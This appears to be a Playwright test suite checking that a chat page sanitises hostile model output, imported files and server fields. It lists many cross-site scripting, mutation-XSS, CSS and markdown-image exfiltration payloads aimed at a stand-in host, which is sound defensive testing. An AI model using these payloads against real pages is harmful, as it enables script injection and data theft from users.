"""The chat page and what a hostile model, file or server may write: nothing runs, nothing is loaded, nothing leaves."""
import json
import re
from typing import Iterator

import pytest
from playwright.sync_api import Browser, expect

from page_harness import PlayedServer, Tab, data_url, window

# Each would set window.hit, open a dialog or ask another machine; 127.0.0.1:9 stands for that one.
HOSTILE = {
    "script": "<script>window.hit = 1; alert(1)</script>",
    "script in a list": "- <script src=http://127.0.0.1:9/x.js></script>",
    "handler": '<img src=x onerror="window.hit = 1"> <body onload="window.hit = 1">',
    "handler, inline": 'text <b onmouseover="window.hit = 1" style="position:fixed;inset:0">over</b>',
    "autofocus": '<input autofocus onfocus="window.hit = 1"><details open ontoggle="window.hit = 1">',
    "svg": '<svg onload="window.hit = 1"><script>window.hit = 1</script><animate onbegin="window.hit = 1" attributeName=x dur=1s></svg>',
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>window.hit=1</script></svg>#x"></use></svg>',
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
    "mathml link": '<math><maction actiontype="statusline" xlink:href="javascript:window.hit=1">click</maction></math>',
    "mutation": '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.hit = 1">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "template": '<template><script>window.hit=1</script></template>',
    "frames": '<iframe srcdoc="<script>parent.hit=1</script>"></iframe><iframe src="javascript:parent.hit=1"></iframe><object data="data:text/html,x"></object><embed src="data:text/html,x">',
    "form": '<form action="http://127.0.0.1:9/" id=composer><input name=key><button>Send</button></form>',
    "base and meta": '<base href="http://127.0.0.1:9/"><meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/"><link rel=stylesheet href=http://127.0.0.1:9/x.css>',
    "style": "<style>* { background: url(http://127.0.0.1:9/css) } body { display: none }</style>",
    "style attribute": '<p style="background: url(http://127.0.0.1:9/style)">x</p>',
    "picture": "![secret](http://127.0.0.1:9/?q=secret) ![x][1]\n\n[1]: http://127.0.0.1:9/ref",
    "picture, html": '<img src="http://127.0.0.1:9/img"><picture><source srcset="http://127.0.0.1:9/set"></picture><video poster=http://127.0.0.1:9/p><audio src=http://127.0.0.1:9/a>',
    "picture, odd": "![x](<http://127.0.0.1:9/a b>) ![x](//127.0.0.1:9/rel) ![x](/v1/models) ![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "links": "[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1) [c](data:text/html,<script>window.hit=1</script>) [d](vbscript:x) "
             "[e](&#106;avascript:window.hit=1) [f](java\tscript:window.hit=1) [g](<java\nscript:x>) [h](file:///etc/passwd) [i](blob:x)",
    "links, auto": "<javascript:window.hit=1> <data:text/html,x> javascript:window.hit=1",
    "link with quotes": '[x](http://127.0.0.1:9/"onmouseover="window.hit=1) [y](http://127.0.0.1:9/ "\\" onmouseover=window.hit=1 x=\\"")',
    "fence": '```js" onmouseover="window.hit=1\nx\n```\n\n```"><img src=x onerror=window.hit=1>\nx\n```',
    "code": "`<img src=x onerror=window.hit=1>` ``</code><script>window.hit=1</script>``",
    "code, coloured": "```xml\n</span></code></pre><img src=x onerror=window.hit=1>\n```\n\n```html\n<script>window.hit=1</script>\n```",
    "table": "| <img src=x onerror=window.hit=1> | b |\n|---|---|\n| [x](javascript:window.hit=1) | <script>window.hit=1</script> |",
    "tex links": r"$\href{javascript:window.hit=1}{x}$ $\url{javascript:window.hit=1}$ $\includegraphics{http://127.0.0.1:9/tex}$",
    "tex styles": r"$\style{background:url(http://127.0.0.1:9/tex)}{x}$ $\class{skip}{x}$ $\id{composer}{x}$ $\data{onclick=window.hit=1}{x}$ $\htmlStyle{position:fixed}{x}$",
    "tex html": r"$\text{<img src=x onerror=window.hit=1>}$ $$\text{</math><script>window.hit=1</script>}$$ $\unicode{x3c}script\unicode{x3e}$",
    "tex bombs": r"$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c\c\c}\d\d\d\d$ "
                 r"$\rule{99999em}{99999em}$ $\def\f{\f\f}\f$ $\color{red;background:url(http://127.0.0.1:9/c)}x$",
    "entities": "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62;",
    "clobbering": '<a id=DOMPurify></a><a name=temml href="x:y"></a><img name=getElementById>\n\n# <a id="thread"></a>',
    "deep": "> " * 300 + "x\n\n" + "- " * 200 + "y\n\n" + "[" * 400 + "z" + "](" * 400,
    "control characters": "\u202eevil\u0000 <scr\u0000ipt>window.hit=1</script> \ufeff<img/src=x\u000conerror=window.hit=1>",
}
ADDRESS = re.compile(r"^(https?://|mailto:)", re.I)

# Elements and attributes in the messages that could run or load something.
LOOK = """() => {
  const bad = [];
  for (const node of document.querySelectorAll('#thread *')) {
    if (/^(script|style|link|meta|base|iframe|object|embed|form|input|video|audio|source|template|noscript)$/i.test(node.localName))
      bad.push(node.outerHTML);
    if (/^(img|image|svg|use)$/i.test(node.localName) && !node.closest('button')) bad.push(node.outerHTML);
    if (node.id) bad.push(`id ${node.id}`);
    for (const {name, value} of node.attributes) {
      if (/^on|^src|^action|^formaction|^xlink|^srcdoc|^poster|^background$/i.test(name)) bad.push(`${name}=${value}`);
      if (name === 'href' && !/^(https?:|mailto:)/i.test(value)) bad.push(`href=${value}`);
      if (name === 'style' && !node.closest('math')) bad.push(`style=${value}`);
      if (name === 'style' && /url|position|expression|fixed/i.test(value)) bad.push(`style=${value}`);
    }
  }
  return bad;
}"""


def check_harmless(tab: Tab, played: PlayedServer, faults: list[str]) -> None:
    tab.page.evaluate("document.querySelectorAll('#thread a, #thread .markdown *').forEach(n => n.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})))")
    tab.page.wait_for_timeout(30)  # for what would load
    assert tab.page.evaluate(LOOK) == []
    assert tab.page.evaluate("window.hit") is None
    assert [address for address in tab.asked if not address.startswith((played.url, "data:", "blob:"))] == []
    assert tab.page.evaluate("document.title").endswith("Pippin")
    assert faults == []


def no_dialog(dialog) -> None:
    dialog.dismiss()
    raise AssertionError(f"a dialog: {dialog.message}")


@pytest.fixture(scope="module")
def module_played(server) -> Iterator[PlayedServer]:
    running = PlayedServer(server)
    yield running
    running.close()


@pytest.fixture(scope="module")
def shared(browser: Browser, module_played: PlayedServer) -> Iterator[Tab]:
    """One tab for all hostile answers: each is a conversation of its own."""
    with window(browser, module_played.url) as tab:
        tab.page.on("dialog", no_dialog)
        yield tab


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_answers_do_nothing(shared: Tab, module_played: PlayedServer, name: str):
    text = HOSTILE[name]
    shared.button("New chat").click()
    module_played.play(*re.findall(r"[\s\S]{1,40}", text), finish="stop")
    shared.ask(name)
    # No fault: nothing came as far as the Content-Security-Policy.
    check_harmless(shared, module_played, shared.faults)
    expect(shared.field).to_be_visible()
    assert shared.page.evaluate("document.getElementById('composer').contains(document.getElementById('input'))")
    for link in shared.page.locator("#thread a").all():
        assert ADDRESS.match(link.get_attribute("href"))
        assert link.get_attribute("target") == "_blank" and "noopener" in link.get_attribute("rel")


def test_hostile_words_elsewhere_do_nothing(shared: Tab, module_played: PlayedServer):
    """Everything else that is shown: reasoning, calls, errors, names of models, the user's words."""
    evil = '<img src=x onerror="window.hit=1"><script>window.hit=1</script>'
    module_played.models = [{"id": evil, "state": evil}]
    shared.reload()
    shared.button("New chat").click()
    call = {"tool_calls": [{"index": 0, "id": evil, "function": {"name": evil, "arguments": json.dumps({"a": evil})}}]}
    module_played.play({"reasoning_content": evil}, call, finish="tool_calls")
    shared.ask(evil)
    module_played.scripts.append([(400, evil)])
    shared.ask("again")
    expect(shared.answers.last.locator(".ending")).to_have_text(evil)
    shared.page.evaluate("document.querySelectorAll('#thread details').forEach(d => d.open = true)")
    # The form of results is the page's own.
    assert [entry for entry in shared.page.evaluate(LOOK) if "results" not in entry] == []
    assert shared.page.evaluate("window.hit") is None and shared.faults == []


def test_hostile_files_do_nothing(shared: Tab, module_played: PlayedServer):
    evil = '<img src=x onerror="window.hit=1">'
    good = data_url(b"GIF89a\1\0\1\0\0\0\0!\xf9\4\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;", "image/gif")
    urls = ["javascript:window.hit=1", "http://127.0.0.1:9/import", "data:text/html,<script>window.hit=1</script>", "blob:x", 7, None,
            'data:image/svg+xml;base64,PHN2Zy8+" onerror="window.hit=1', good]
    messages = [{"id": "a", "role": "user", "text": evil, "attachments": [{"kind": "image", "name": evil, "url": url} for url in urls]},
                {"id": "b", "parent": "a", "role": "assistant", "text": HOSTILE["script"], "reasoning": evil, "model": evil, "error": evil,
                 "status": "failed", "calls": "none", "stats": {"firstMs": evil, "promptTokens": {}}, "__proto__": {"hit": 1}}]
    given = {"format": "pippin-conversations", "version": 1, "conversations": [
        {"title": evil, "settings": {"system": 5, "temperature": "hot", "__proto__": {"hit": 1}}, "messages": messages}]}
    shared.page.locator("#import-file").set_input_files(
        [{"name": "x.json", "mimeType": "application/json", "buffer": json.dumps(given).encode()}])
    expect(shared.messages).to_have_count(2)
    images = shared.page.locator("#thread img")
    expect(images).to_have_count(1)
    assert images.get_attribute("src") == good
    assert shared.page.evaluate("window.hit") is None
    assert [address for address in shared.asked if not address.startswith((module_played.url, "data:", "blob:"))] == []
    assert shared.faults == []


# --- each wall alone ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name", HOSTILE)
def test_the_second_wall_holds_alone(shared: Tab, module_played: PlayedServer, name: str):
    """DOMPurify, given the answer as if it were HTML. Its parser's document has the page's policy and reports handlers to it."""
    shared.faults.clear()
    shared.page.evaluate("""async (html) => {
      const {purify} = await import('/page/markdown.js');
      const item = document.createElement('li');
      item.append(purify(html));
      document.getElementById('thread').replaceChildren(item);
    }""", HOSTILE[name])
    others = [fault for fault in shared.faults if "Content Security Policy" not in fault]
    shared.faults.clear()
    check_harmless(shared, module_played, others)
    assert shared.page.locator("#thread math").count() == 0


def test_the_third_wall_holds_alone(browser: Browser, module_played: PlayedServer):
    """The Content-Security-Policy, with elements that a broken page would have made."""
    with window(browser, module_played.url) as tab:
        outcome = tab.page.evaluate("""async () => {
          const made = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
          const blocked = [];
          document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
          made('img', {src: 'http://127.0.0.1:9/a.png'});
          made('video', {src: 'http://127.0.0.1:9/a.mp4'});
          made('iframe', {src: 'http://127.0.0.1:9/'});
          made('link', {rel: 'stylesheet', href: 'http://127.0.0.1:9/a.css'});
          made('p', {}).setAttribute('style', 'background: url(http://127.0.0.1:9/)');
          const throws = (action) => { try { action(); return false; } catch { return true; } };
          const refused = [
            throws(() => { made('div', {}).innerHTML = '<img src=x onerror=window.hit=1>'; }),
            throws(() => made('script', {}).text = 'window.hit = 1'),
            throws(() => made('button', {}).setAttribute('onclick', 'window.hit = 1')),
          ];
          // Later, when the test's own right to evaluate has ended.
          refused.push(await new Promise((resolve) => setTimeout(() => resolve(throws(() => eval('window.hit = 1'))))));
          const fetched = await fetch('http://127.0.0.1:9/').then(() => true, () => false);
          await new Promise((resolve) => setTimeout(resolve, 200));
          return {blocked: [...new Set(blocked)].sort(), refused, fetched, hit: window.hit ?? null};
        }""")
        assert outcome["hit"] is None and not outcome["fetched"] and all(outcome["refused"])
        for directive in ("connect-src", "frame-src", "img-src", "media-src", "style-src-attr", "style-src-elem"):
            assert directive in outcome["blocked"], outcome
        tab.faults.clear()  # the violations, which were wanted
